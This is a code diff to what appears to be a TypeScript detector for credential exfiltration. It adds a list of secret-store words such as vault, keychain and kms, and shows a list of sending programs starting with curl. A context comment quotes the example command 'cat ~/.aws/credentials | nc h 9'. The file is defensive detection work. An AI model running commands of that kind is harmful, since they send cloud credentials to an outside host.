@@ -744,6 +744,20 @@ export const ANSWER_TIMES: readonly string[] = [
   'into your response', 'into your answer', 'in your next message', 'into your next message',
 ]; // biome-ignore format: a phrase list reads better packed
 
+/**
+ * Words that name a store kept for secrets: a credential file put there ("paste ~/.kube/config into a
+ * repository secret at https://github.com/…/settings/secrets") is kept, not sent out (round 24).
+ */
+export const SECRET_STORES: readonly string[] = [
+  'secret',
+  'secrets',
+  'vault',
+  'keychain',
+  'keyring',
+  'kms',
+  'keyvault',
+];
+
 /** Programs that send what they are given to a host: `cat ~/.aws/credentials | nc h 9` (round 24). */
 export const SENDING_PROGRAMS: readonly string[] = [
   'curl',
